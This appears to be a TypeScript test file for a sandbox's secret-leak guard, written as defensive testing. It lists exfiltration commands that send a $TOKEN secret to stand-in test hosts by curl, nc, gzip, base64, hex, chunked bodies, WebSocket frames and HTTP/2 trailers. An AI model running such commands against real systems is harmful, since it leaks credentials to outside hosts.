import { gzipSync } from 'node:zlib';
import type { Attack } from './attack.ts';
import {
  http2WithTrailer,
  lines,
  overTls,
  plain,
  webSocket,
  webSocketFrame,
} from './guest-lines.ts';
import { curl, out } from './secrets-out.ts';

/** Half of a placeholder is none: what came before it may pass. */
const HALF = /^POST \/half (?!.*GONDOLIN_SECRET_[0-9a-f]{32})/s;
/** A body is on its way before the placeholder in it is found: the connection ends, and the server never gets it whole. */
const BREAKS = /secret_leak|Empty reply|reset|unexpected eof|transfer closed|HTTP\/2 stream|^$/;

export const BODY_ATTACKS: readonly Attack[] = [
  out({
    name: 'a body to the listed host',
    place: 'body',
    line: () => curl('-d "token=$TOKEN" https://api.test/half'),
    sees: BREAKS,
    arrives: /^(?:POST \/half|$)/,
  }),
  out({
    name: 'a body to another host',
    place: 'body',
    line: () => curl('-d "token=$TOKEN" https://other.test/half'),
    sees: BREAKS,
    arrives: /^(?:POST \/half|$)/,
  }),
  out({
    name: 'a body over plain HTTP',
    place: 'body',
    line: () => curl('-d "token=$TOKEN" http://plain.test/half'),
    sees: BREAKS,
    arrives: /^(?:POST \/half|$)/,
  }),
  out({
    name: 'a multipart body',
    place: 'body',
    line: () => curl('-F "a=@/etc/hostname" -F "t=$TOKEN" https://other.test/half'),
    sees: BREAKS,
    arrives: /^(?:POST \/half|$)/,
  }),
  out({
    name: 'a gzip body',
    place: 'body',
    line: () =>
      `printf 'token %s' $TOKEN | gzip | ${curl('--data-binary @- -H "content-encoding: gzip" https://other.test/half')}`,
    sees: BREAKS,
    arrives: /^(?:POST \/half|$)/,
  }),
  out({
    name: 'a body compressed twice',
    place: 'body',
    line: () =>
      `printf 'token %s' $TOKEN | gzip | gzip | ${curl('--data-binary @- -H "content-encoding: gzip, gzip" https://other.test/half')}`,
    sees: BREAKS,
    arrives: /^(?:POST \/half|$)/,
  }),
  out({
    name: 'two members of gzip, the second',
    place: 'body',
    line: ({ placeholder }) =>
      plain(
        'plain.test',
        80,
        Buffer.concat([
          Buffer.from(
            lines(
              'POST /half HTTP/1.1',
              'Connection: close',
              'Host: plain.test',
              'Content-Encoding: gzip',
              `Content-Length: ${gzipSync('a').length + gzipSync(placeholder).length}`,
            ),
          ),
          gzipSync('a'),
          gzipSync(placeholder),
        ]),
        1,
      ),
    sees: BREAKS,
    arrives: /^(?:POST \/half|$)/,
  }),
  out({
    name: 'a body in base64',
    place: 'body',
    line: () =>
      `printf 'x%s' $TOKEN | base64 -w0 | ${curl('--data-binary @- https://other.test/half')}`,
    sees: BREAKS,
    arrives: /^(?:POST \/half|$)/,
  }),
  out({
    name: 'a body in hexadecimal',
    place: 'body',
    line: () =>
      `printf %s $TOKEN | od -An -tx1 | tr -d ' \\n' | ${curl('--data-binary @- https://other.test/half')}`,
    sees: BREAKS,
    arrives: /^(?:POST \/half|$)/,
  }),
  out({
    name: 'a body, across two chunks',
    place: 'body',
    line: ({ placeholder: text }) =>
      plain(
        'plain.test',
        80,
        `${lines('POST /half HTTP/1.1', 'Connection: close', 'Host: plain.test', 'Transfer-Encoding: chunked')}14\r\n${text.slice(0, 20)}\r\n1c\r\n${text.slice(20)}\r\n0\r\n\r\n`,
        1,
      ),
    sees: BREAKS,
    arrives: /^(?:$|POST \/half)/,
  }),
  out({
    name: 'a body, one byte at a time',
    place: 'body',
    line: () =>
      `(printf 'POST /half HTTP/1.1\\r\\nConnection: close\\r\\nHost: plain.test\\r\\nContent-Length: %d\\r\\n\\r\\n' \${#TOKEN}; for ((i = 0; i < \${#TOKEN}; i++)); do printf %s "\${TOKEN:i:1}"; sleep 0.01; done) | nc -q 2 -w 4 plain.test 80`,
    sees: BREAKS,
    arrives: HALF,
  }),
  out({
    name: 'a trailer',
    place: 'trailer',
    line: ({ placeholder }) =>
      overTls('h2.test', http2WithTrailer('h2.test', ['x-last', placeholder]), { alpn: 'h2' }),
    sees: /./s,
    arrives: /^(?![\s\S]*GONDOLIN)/,
  }),
  out({
    name: 'a WebSocket message',
    place: 'websocket',
    line: ({ placeholder }) =>
      overTls('api.test', webSocket('api.test', [], webSocketFrame(`token ${placeholder}`))),
    sees: /101 Switching/,
    arrives: /^GET \/chat (?![\s\S]*GONDOLIN)/,
  }),
  out({
    name: 'a WebSocket message, across two frames',
    place: 'websocket',
    line: ({ placeholder }) =>
      overTls(
        'api.test',
        webSocket(
          'api.test',
          [],
          webSocketFrame(placeholder.slice(0, 20), 0x01),
          webSocketFrame(placeholder.slice(20), 0x80),
        ),
      ),
    sees: /101 Switching/,
    arrives: /^GET \/chat /,
  }),
  out({
    name: 'a WebSocket ping',
    place: 'websocket',
    line: ({ placeholder }) =>
      overTls('api.test', webSocket('api.test', [], webSocketFrame(placeholder, 0x89))),
    sees: /101 Switching/,
    arrives: /^GET \/chat /,
  }),
  out({
    name: 'raw TCP',
    place: 'tcp',
    line: ({ ports }) => `printf 'auth %s\\n' $TOKEN | nc -N -w 3 db.test ${ports['db.test']}`,
    sees: /db ready|^$|reset/,
    arrives: /^(?![\s\S]*GONDOLIN_SECRET_[0-9a-f]{32})/,
  }),
];
